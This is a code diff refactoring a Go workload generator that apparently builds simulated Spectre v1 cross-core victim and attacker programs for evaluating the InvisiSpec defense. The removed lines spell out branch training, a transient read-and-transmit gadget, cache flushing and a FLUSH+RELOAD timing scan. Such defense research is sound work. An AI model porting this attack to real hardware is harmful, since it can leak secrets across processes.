@@ -1,10 +1,6 @@
 package workload
 
-import (
-	"math/bits"
-
-	"invisispec/internal/isa"
-)
+import "invisispec/internal/isa"
 
 // Cross-thread (SMT-style) Spectre placement: the victim and the attacker
 // are separate programs on separate cores sharing the inclusive LLC, the
@@ -61,60 +57,30 @@ func SpectreV1CrossThread(p SpectreParams) ([]*isa.Program, error) {
 // serves as the comparand of the spin branches.
 func crossThreadVictim(p SpectreParams) (*isa.Program, error) {
 	const (
-		rArg    = 1
-		rOne    = 3
-		rRound  = 10
-		rLimit  = 11
-		rBnd    = 12
-		rSecPtr = 13
-		rSec    = 14
-		rJunk   = 16
-		rBPtr2  = 17
-		rA      = 20
-		rB      = 21
-		rBndPtr = 23
-		rRdy    = 24
-		rIdx    = 26
-		rDone   = 27
-		rLink   = 30
+		rOne  = 3
+		rRdy  = 24
+		rIdxP = 26
+		rDone = 27
 	)
-	shift := int64(bits.TrailingZeros(uint(p.ProbeStride)))
 	b := isa.NewBuilder("spectre-v1-cross-victim")
-	// Victim data: A[0..9] = 0, the secret byte at A+offset, bounds = 10.
-	b.Data(SpectreABase, make([]byte, 10))
-	b.Data(SpectreABase+SpectreSecretOffset, []byte{p.Secret})
-	b.DataU64(SpectreBoundsAddr, 10)
-
+	emitVictimData(b, p.Secret, true)
 	b.Li(rA, SpectreABase).
 		Li(rB, SpectreBBase).
 		Li(rBndPtr, SpectreBoundsAddr).
 		Li(rRdy, spectreCtrlRdy).
-		Li(rIdx, spectreCtrlIdx).
+		Li(rIdxP, spectreCtrlIdx).
 		Li(rDone, spectreCtrlDone).
 		Li(rOne, 1)
+	emitBoundsTraining(b, p.TrainRounds)
 
-	// Train the bounds-check branch over the valid indices.
-	b.Li(rRound, uint64(p.TrainRounds))
-	b.Label("train_outer").
-		Li(rArg, 0)
-	b.Label("train_inner").
-		Call(rLink, "victim").
-		AddI(rArg, rArg, 1).
-		Li(rLimit, 10).
-		Blt(rArg, rLimit, "train_inner").
-		AddI(rRound, rRound, -1).
-		Bne(rRound, 0, "train_outer")
-
-	// Warm this core's D-TLB entries for the probe pages (one line per
-	// page). An SMT attacker shares the victim's D-TLB; across cores the
-	// victim must have touched its own probe array — as a real victim
-	// whose B is a live data structure would have — or the gadget's
-	// transient transmit stalls 40 cycles on a page walk and the bounds
-	// branch resolves first. The attacker's flush below evicts these
-	// lines from every cache but leaves the TLB entries in place.
-	for pg := int64(0); pg < int64(p.ProbeLines*p.ProbeStride); pg += isa.PageSize {
-		b.Ld(1, rJunk, rB, pg)
-	}
+	// Warm this core's D-TLB entries for the probe pages. An SMT attacker
+	// shares the victim's D-TLB; across cores the victim must have touched
+	// its own probe array — as a real victim whose B is a live data
+	// structure would have — or the gadget's transient transmit stalls 40
+	// cycles on a page walk and the bounds branch resolves first. The
+	// attacker's flush below evicts these lines from every cache but
+	// leaves the TLB entries in place.
+	emitTLBWarm(b, p.region())
 
 	// Tell the attacker training is done, then spin until the attack index
 	// is posted. The spin load itself leaves the index in rArg, so the
@@ -125,7 +91,7 @@ func crossThreadVictim(p SpectreParams) (*isa.Program, error) {
 	b.Fence().
 		St(8, rRdy, 0, rOne)
 	b.Label("wait_idx").
-		Ld(8, rArg, rIdx, 0).
+		Ld(8, rArg, rIdxP, 0).
 		Beq(rArg, 0, "wait_idx").
 		Fence()
 
@@ -134,31 +100,7 @@ func crossThreadVictim(p SpectreParams) (*isa.Program, error) {
 		Fence().
 		St(8, rDone, 0, rOne).
 		Halt()
-
-	// victim(a): if (a < bounds) junk = B[stride * A[a]] — Figure 1.
-	b.Label("victim").
-		Ld(8, rBnd, rBndPtr, 0). // bounds load: slow when flushed
-		Div(rBnd, rBnd, rBnd).   // dependent chain delays resolution
-		AddI(rBnd, rBnd, 9).     // 10
-		Div(rBnd, rBnd, rBnd).   // 1 (another 12 cycles)
-		ShlI(rBnd, rBnd, 1).
-		ShlI(rBnd, rBnd, 2).
-		AddI(rBnd, rBnd, 2). // rBnd = 10 again
-		Bge(rArg, rBnd, "victim_ret").
-		Add(rSecPtr, rA, rArg)
-	if p.Annotate {
-		b.LdSafe(1, rSec, rSecPtr, 0). // the access instruction
-						ShlI(rSec, rSec, shift).
-						Add(rBPtr2, rB, rSec).
-						LdSafe(1, rJunk, rBPtr2, 0) // the transmit instruction
-	} else {
-		b.Ld(1, rSec, rSecPtr, 0). // the access instruction
-						ShlI(rSec, rSec, shift).
-						Add(rBPtr2, rB, rSec).
-						Ld(1, rJunk, rBPtr2, 0) // the transmit instruction
-	}
-	b.Label("victim_ret").
-		Ret(rLink)
+	emitBoundsVictim(b, p, false)
 	return b.Build()
 }
 
@@ -169,25 +111,12 @@ func crossThreadVictim(p SpectreParams) (*isa.Program, error) {
 // lines once the victim signals the gadget has retired.
 func crossThreadAttacker(p SpectreParams) (*isa.Program, error) {
 	const (
-		rFlag   = 2
-		rT0     = 3
-		rVal    = 4
-		rT1     = 5
-		rDelta  = 6
-		rResPtr = 7
-		rIdx    = 8
-		rLimit  = 11
-		rBPtr   = 15
-		rB      = 21
-		rRes    = 22
-		rBndPtr = 23
-		rRdy    = 24
-		rIdxP   = 26
-		rDone   = 27
-		rArg    = 28
+		rFlag = 2
+		rRdy  = 25
+		rIdxP = 26
+		rDone = 27
+		rOOB  = 28 // the out-of-bounds index
 	)
-	shift := int64(bits.TrailingZeros(uint(p.ProbeStride)))
-	region := int64(p.ProbeLines * p.ProbeStride)
 	b := isa.NewBuilder("spectre-v1-cross-attacker")
 	b.Li(rB, SpectreBBase).
 		Li(rRes, SpectreResultsBase).
@@ -198,9 +127,7 @@ func crossThreadAttacker(p SpectreParams) (*isa.Program, error) {
 
 	// Warm this core's D-TLB entries for the probe pages so the timed
 	// probes pay cache latency, not page walks.
-	for pg := int64(0); pg < region; pg += isa.PageSize {
-		b.Ld(1, rVal, rB, pg)
-	}
+	emitTLBWarm(b, p.region())
 
 	// Wait for the victim's training to finish, then flush the state the
 	// attack depends on out of EVERY cache: the bounds (to widen the
@@ -215,19 +142,14 @@ func crossThreadAttacker(p SpectreParams) (*isa.Program, error) {
 		b.Flush(rBndPtr, 0)
 	}
 	if p.FlushProbe {
-		b.Flush(rB, 0)
-		for pg := int64(0); pg < region; pg += isa.PageSize {
-			for d := int64(0); d <= 4; d++ {
-				b.Flush(rB, pg+64*d)
-			}
-		}
+		emitProbeFlush(b, p.region())
 	}
 	b.Fence()
 
 	// Post the out-of-bounds index; a non-zero mailbox value IS the go
 	// signal, so no separate flag store is needed.
-	b.Li(rArg, SpectreSecretOffset).
-		St(8, rIdxP, 0, rArg)
+	b.Li(rOOB, SpectreSecretOffset).
+		St(8, rIdxP, 0, rOOB)
 
 	// Wait for the gadget call to retire on the victim core. The fence
 	// keeps the timed probes from issuing transiently while the spin-exit
@@ -236,29 +158,7 @@ func crossThreadAttacker(p SpectreParams) (*isa.Program, error) {
 		Ld(8, rFlag, rDone, 0).
 		Beq(rFlag, 0, "wait_done").
 		Fence()
-
-	// FLUSH+RELOAD scan, identical to the same-thread attacker: serialized
-	// probes in descending line order (see SpectreV1With).
-	const rShuf = 19
-	b.Li(rIdx, 0).
-		Li(rVal, 0)
-	b.Label("scan").
-		Li(rShuf, uint64(p.ProbeLines-1)).
-		Sub(rShuf, rShuf, rIdx). // descending probe index
-		AndI(rDelta, rVal, 0).   // 0, but depends on the previous probe
-		ShlI(rBPtr, rShuf, shift).
-		Add(rBPtr, rBPtr, rB).
-		Add(rBPtr, rBPtr, rDelta).
-		Cycle(rT0, rBPtr).     // t0, ordered after the address
-		Ld(1, rVal, rBPtr, 0). //
-		Cycle(rT1, rVal).      // t1, ordered after the loaded value
-		Sub(rDelta, rT1, rT0).
-		ShlI(rResPtr, rShuf, 3).
-		Add(rResPtr, rResPtr, rRes).
-		St(8, rResPtr, 0, rDelta).
-		AddI(rIdx, rIdx, 1).
-		Li(rLimit, uint64(p.ProbeLines)).
-		Blt(rIdx, rLimit, "scan").
-		Halt()
+	emitProbeScan(b, p.ProbeLines, 0, p.shift())
+	b.Halt()
 	return b.Build()
 }
